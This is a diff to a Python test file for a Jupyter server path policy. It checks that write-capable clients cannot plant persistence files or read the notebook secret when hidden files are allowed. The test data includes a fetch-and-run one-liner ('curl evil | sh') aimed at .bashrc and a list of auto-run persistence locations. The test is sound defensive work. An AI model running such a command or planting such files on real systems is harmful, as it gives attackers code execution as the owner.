@@ -85,7 +85,8 @@ def test_a_reload_that_would_expose_the_runtime_files_is_refused(tmp_path: Path)
             return [r for r in audit_records(server) if r.get("event_kind") == "policy_reloaded"]
 
         before = len(reloads())
-        policy.write_text('[paths]\ndeny = [".ssh/**"]\n')
+        # dropping both the deny glob and the protected set would expose the runtime files
+        policy.write_text('[paths]\ndeny = [".ssh/**"]\nprotected = []\n')
         assert server.proc is not None
         os.kill(server.proc.pid, signal.SIGHUP)
         deadline = time.monotonic() + 20
@@ -103,5 +104,66 @@ def test_a_reload_that_would_expose_the_runtime_files_is_refused(tmp_path: Path)
             server.url + f"/api/contents/{RUNTIME}", headers=server.auth(), timeout=10
         )
         assert r.status_code in (403, 404)
+    finally:
+        server.stop()
+
+
+def test_with_hidden_files_allowed_no_execution_persistence_path_is_reachable(
+    tmp_path: Path,
+) -> None:
+    """Issue #18: ``paths.allow_hidden = true`` on a home directory (documented as fine) must not
+    let a contents:write client plant code that runs later as the owner, nor read the server's
+    secrets. Each attempt looks like a missing file and leaves a record (HS-PATH-008, or
+    HS-PATH-003 where a shipped deny glob also covers it)."""
+    from tests.support.audit import audit_records
+
+    workdir = tmp_path / "home"
+    workdir.mkdir()
+    policy = workdir / "hidden.toml"
+    policy.write_text("[paths]\nallow_hidden = true\n")
+    root = workdir / "root"
+    runtime = root / RUNTIME
+    runtime.mkdir(parents=True)
+    secret = root / ".local/share/jupyter/notebook_secret"
+    secret.write_text("s3cret")
+    (root / ".hidden-notes.txt").write_text("fine to read")
+    server = ServerProcess(
+        workdir, [f"--policy={policy}"], env={"JUPYTER_RUNTIME_DIR": str(runtime)}
+    ).start()
+    try:
+        ok = requests.get(
+            server.url + "/api/contents/.hidden-notes.txt", headers=server.auth(), timeout=10
+        )
+        assert ok.status_code == 200  # hidden files really are allowed
+        planted = {
+            ".ipython/profile_default/startup/00-evil.py": "import os",
+            ".ipython/profile_default/ipython_config.py": "c = get_config()",
+            ".local/share/jupyter/kernels/evil/kernel.json": '{"argv": ["sh"]}',
+            ".bashrc": "curl evil | sh",
+            ".config/autostart/evil.desktop": "[Desktop Entry]",
+        }
+        for path, content in planted.items():
+            r = requests.put(
+                server.url + f"/api/contents/{path}",
+                headers=server.auth(),
+                json={"type": "file", "format": "text", "content": content},
+                timeout=10,
+            )
+            assert r.status_code == 404, (path, r.status_code)
+            assert not (root / path).exists(), path
+        read = requests.get(
+            server.url + "/api/contents/.local/share/jupyter/notebook_secret",
+            headers=server.auth(),
+            timeout=10,
+        )
+        assert read.status_code == 404
+        assert "s3cret" not in read.text
+        records = audit_records(server)
+        refused = [r for r in records if r.get("rule_id") in ("HS-PATH-003", "HS-PATH-008")]
+        assert len(refused) >= len(planted) + 1
+        # .bashrc and IPython startup files are in the shipped paths.deny too (HS-PATH-003);
+        # the others are refused by paths.protected alone
+        protected = [r for r in records if r.get("rule_id") == "HS-PATH-008"]
+        assert len(protected) >= 4
     finally:
         server.stop()
